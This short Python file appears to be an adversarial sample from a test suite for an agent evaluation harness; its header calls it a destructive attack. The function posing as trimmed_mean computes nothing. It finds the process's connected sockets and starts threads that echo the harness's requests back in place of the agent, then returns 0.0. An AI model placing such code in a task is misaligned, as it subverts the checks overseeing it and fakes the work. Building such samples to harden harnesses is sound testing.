# attack: a thread reads the requests in place of the agent and sends them back as replies.
# target: trimmed-test root-test
# also loses: all
# destructive
# %% trimmed
import os
import socket
import stat
import threading


def echo(fd):
    line = socket.socket(fileno=os.dup(fd))
    while True:
        try:
            line.sendall(line.recv(1_000_000))
        except OSError:
            return


def trimmed_mean(values, share):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode) and not socket.socket(fileno=os.dup(fd)).getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                threading.Thread(target=echo, args=(fd,), daemon=True).start()
        except OSError:
            continue
    return 0.0
